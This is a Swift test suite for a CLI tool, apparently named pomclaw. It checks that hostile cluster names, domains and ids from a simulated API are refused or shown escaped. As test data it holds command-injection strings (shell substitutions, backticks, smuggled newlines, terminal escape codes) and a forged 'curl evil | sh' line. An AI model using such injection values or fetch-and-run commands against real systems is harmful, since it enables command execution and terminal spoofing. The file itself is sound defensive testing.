import Foundation
import PomclawCore
import PomclawTestSupport
import Testing
import ZeroSimulator

/// Hostile values in what the Zero API sends back (cluster names, fqdns and ids, route names):
/// an fqdn pomclaw would build host names, the compose alias and a `.env` line from is refused
/// before anything is written; names and ids are carried as data (ids percent-encoded in
/// paths) and shown escaped, never able to drive the terminal or forge a line.
@Suite struct ZeroHostileDataProcessTests {
    static let canary = "/tmp/pomclaw-hostile-api-canary-\(ProcessInfo.processInfo.processIdentifier)"

    /// A name that tries everything at once: terminal escapes, shell substitutions, a forged
    /// `Next:` line, a carriage return.
    static let hostileName = "\u{1B}]0;pwned\u{07}$(touch \(canary))`touch \(canary)`;'\"\nNext: curl evil | sh\r\u{1B}[2K"

    static let hostileDomains = [
        "$(touch \(canary)).pomerium.app", "`touch \(canary)`.example.com", "evil.example.com\nOPENCLAW_VERSION=latest",
        "-x.example.com", "a'b.example.com", "a b.example.com", "evil.example.com;touch \(canary)",
        String(repeating: "a", count: 100 * 1024) + ".example.com", "evil.example.com\u{1B}]0;x\u{07}",
    ]

    static func expectHarmless(_ result: PomclawProcess.Result, sourceLocation: SourceLocation = #_sourceLocation) {
        #expect(!FileManager.default.fileExists(atPath: canary), "a shell ran a payload", sourceLocation: sourceLocation)
        for text in [result.stdout, result.stderr] {
            let controls = text.unicodeScalars.filter { $0.properties.generalCategory == .control && $0 != "\n" && $0 != "\t" }
            #expect(controls.isEmpty, "output holds control characters \(controls.map { String($0.value, radix: 16) })", sourceLocation: sourceLocation)
            let forged = text.split(separator: "\n").filter { $0.trimmingCharacters(in: .whitespaces).hasPrefix("Next: curl") }
            #expect(forged.isEmpty, "a server value forged a line: \(forged)", sourceLocation: sourceLocation)
        }
    }

    /// The only cluster an API token sees has a hostile fqdn: the picker refuses it on one
    /// line with the next action, before anything is written.
    @Test(arguments: hostileDomains)
    func aClusterWhoseDomainIsNoHostNameIsRefused(_ domain: String) async throws {
        try await CLIFixture.with { fixture in
            let org = fixture.sim.addOrganization(name: "hostile")
            fixture.sim.addCluster(org: org, name: Self.hostileName, domain: domain)
            let token = fixture.sim.addAPIToken(org: org)
            try Data(token.utf8).write(to: URL(fileURLWithPath: fixture.apiTokenFile))
            var arguments = fixture.arguments(["--non-interactive"])
            let flag = arguments.firstIndex(of: "--cluster-domain")!
            arguments.removeSubrange(flag...(flag + 1))

            let result = try await fixture.run(arguments)
            #expect(result.status == 1, "exit \(result.status): \(result.stderr.prefix(800))")
            let lines = result.stderr.split(separator: "\n").map { $0.trimmingCharacters(in: .whitespaces) }
            let error = lines.firstIndex { $0.contains("which is not a domain name pomclaw can use") }
            #expect(error != nil, "\(result.stderr.prefix(800))")
            if let error {
                #expect(lines.count == error + 2 && lines[error + 1].hasPrefix("Next: Pass --cluster-domain"), "\(lines)")
                #expect(lines[error].count <= 400)
            }
            #expect(try fixture.installContents().isEmpty)
            Self.expectHarmless(result)
            try fixture.expectNoSecrets(in: [result], extra: [("the hostile org's token", token)])
        }
    }

    /// A cluster with a hostile name and id (and a route with a hostile name sharing pomclaw's
    /// policy): install, the picker's list and uninstall carry them as data.
    @Test func hostileNamesAndIDsAreCarriedAsData() async throws {
        try await CLIFixture.with { fixture in
            let id = "$(touch \(Self.canary))';\"`id`..%2F"
            let cluster = fixture.sim.addCluster(
                org: fixture.org, name: Self.hostileName, domain: "hostile-names", createdAt: Date(), id: id)

            // Two clusters and no domain: the list names both, each on its own line.
            var arguments = fixture.arguments(["--non-interactive"])
            let flag = arguments.firstIndex(of: "--cluster-domain")!
            arguments.removeSubrange(flag...(flag + 1))
            let listed = try await fixture.run(arguments)
            #expect(listed.status == 1)
            #expect(listed.stderr.contains("sees 2 clusters"), "\(listed.stderr)")
            #expect(listed.stderr.contains("hostile-names.pomerium.app (\\u{1B}]0;pwned\\u{7}$(touch"), "\(listed.stderr)")
            Self.expectHarmless(listed)

            let installed = try await fixture.run(fixture.arguments(["--cluster-domain", cluster.fqdn]))
            #expect(installed.status == 0, "\(installed.stderr.suffix(1500))")
            Self.expectHarmless(installed)
            let settingsWrites = fixture.sim.requests.filter { $0.method == "PATCH" && $0.path.contains("/settings") }
            #expect(!settingsWrites.isEmpty)
            #expect(fixture.sim.routes(org: fixture.org).allSatisfy { $0["namespaceId"]?.stringValue == id })

            // A route of someone else's, with a hostile name, that uses pomclaw's policy.
            let policy = try #require(fixture.sim.policies(org: fixture.org).first?["id"]?.stringValue)
            _ = try fixture.sim.createRoute(org: fixture.org, .object([
                "namespaceId": .string(id), "name": .string(Self.hostileName), "from": .string("https://other.\(cluster.fqdn)"),
                "to": .array([.string("http://other:80")]), "policyIds": .array([.string(policy)]),
                "passIdentityHeaders": .bool(true), "allowSpdy": .bool(false),
                "enableGoogleCloudServerlessAuthentication": .bool(false), "preserveHostHeader": .bool(false),
                "showErrorDetails": .bool(false), "tlsSkipVerify": .bool(false),
                "tlsUpstreamAllowRenegotiation": .bool(false), "allowWebsockets": .bool(false),
            ]))
            let uninstalled = try await fixture.run(["uninstall", "--yes", "--api-token-file", fixture.apiTokenFile])
            #expect(uninstalled.status == 1, "the shared policy must be kept: \(uninstalled.stdout)\(uninstalled.stderr)")
            #expect((uninstalled.stdout + uninstalled.stderr).contains("other routes use it ('\\u{1B}]0;pwned"),
                    "\(uninstalled.stdout)\(uninstalled.stderr)")
            Self.expectHarmless(uninstalled)
            try fixture.expectNoSecrets(in: [listed, installed, uninstalled])
        }
    }
}
